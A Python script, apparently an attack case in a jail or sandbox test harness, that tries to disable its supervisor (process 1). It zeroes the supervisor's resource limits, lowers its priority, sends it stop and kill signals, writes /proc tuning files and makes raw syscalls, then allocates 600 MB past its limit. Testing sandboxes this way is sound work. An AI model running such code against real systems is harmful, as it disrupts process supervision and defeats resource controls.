"""Blinds process 1 of its jail, which measures and ends it, or slows it down: by limits, schedulers, priorities, signals, files.
Then it takes more memory than it may."""
import ctypes
import fcntl
import os
import resource
import signal
import socket
import struct
import time

import bot

libc = ctypes.CDLL(None, use_errno=True)
zero = ctypes.create_string_buffer(64)


def call(number, *words):
    return libc.syscall(number, *words) >= 0


def write(path, text):
    with open(path, "w") as f:
        f.write(text)
    return True


def owner(fd, how, *words):
    how(fd, *words)
    return True


def change(pid):
    for name in ("RLIMIT_NOFILE", "RLIMIT_NPROC", "RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_DATA"):
        bot.attempt("set %s of %d" % (name, pid), lambda: resource.prlimit(pid, getattr(resource, name), (0, 0)) is not None)
    bot.attempt("lower the priority of %d" % pid, lambda: os.setpriority(os.PRIO_PROCESS, pid, 19) is None)
    for policy in (os.SCHED_IDLE, os.SCHED_BATCH, os.SCHED_OTHER):
        bot.attempt("schedule %d" % pid, lambda: os.sched_setscheduler(pid, policy, os.sched_param(0)) is None)
    bot.attempt("set parameters of %d" % pid, lambda: os.sched_setparam(pid, os.sched_param(0)) is None)
    bot.attempt("move %d" % pid, lambda: os.sched_setaffinity(pid, [0]) is None)
    for number in (signal.SIGURG, signal.SIGPROF, signal.SIGWINCH, signal.SIGSTOP, signal.SIGCHLD, signal.SIGKILL, 33, 0):
        bot.attempt("signal %d to %d" % (number, pid), lambda: os.kill(pid, number) is None)
        bot.attempt("queue signal %d to %d" % (number, pid), lambda: libc.sigqueue(pid, number, None) == 0)
        bot.attempt("signal %d to thread %d" % (number, pid), lambda: libc.tgkill(1, pid, number) == 0)
    pipe = os.pipe()[0]
    pair = socket.socketpair()[0]
    bot.attempt("have %d own a pipe" % pid, owner, pipe, fcntl.fcntl, fcntl.F_SETOWN, pid)
    bot.attempt("have thread %d own a pipe" % pid, owner, pipe, fcntl.fcntl, 15, struct.pack("ii", 0, pid))
    bot.attempt("have %d own a socket" % pid, owner, pair, fcntl.ioctl, 0x8901, struct.pack("i", pid))
    for name, text in (("oom_score_adj", "900"), ("timerslack_ns", "1000000000"), ("coredump_filter", "0"), ("clear_refs", "1"),
                       ("autogroup", "19"), ("limits", "Max open files=0:0")):
        bot.attempt("write %s of %d" % (name, pid), write, "/proc/%d/%s" % (pid, name), text)


def attack():
    tasks = []
    if os.path.isdir("/proc/1/task"):
        tasks = [int(name) for name in os.listdir("/proc/1/task")]
    for pid in {1, os.getppid()} | set(tasks) | set(bot.pids()):
        if pid != os.getpid():
            change(pid)
    bot.attempt("lower the priority of its user", lambda: os.setpriority(os.PRIO_USER, 0, 1) is None)
    if os.path.isdir("/proc/1"):
        bot.attempt("signal process 1 by descriptor", call, 424, os.open("/proc/1", os.O_RDONLY), signal.SIGURG, None, 0)
    for name, number, words in (("release memory", 448, (0, 0)), ("advise on memory", 440, (0, zero, 1, 20, 0))):
        bot.attempt(name, call, number, *words)
    if os.uname().machine == "x86_64":
        bot.attempt("set the disk priority of process 1", call, 251, 1, 1, 3 << 13)
        bot.attempt("set the attributes of process 1", call, 314, 1, zero, 0)
        bot.attempt("set limits with a number of 64 bits", call, ctypes.c_long(302), ctypes.c_long((1 << 40) + 1), 7, zero, None)
    bot.attempt("have a processor for itself", lambda: libc.prctl(62, 1, 0, 1, 0) == 0)
    if os.fork() == 0:
        held = [b"x" * 2**20 for _ in range(600)]
        time.sleep(20)
        bot.won("keep %d MB" % len(held))
    os.wait()


bot.play(attack)
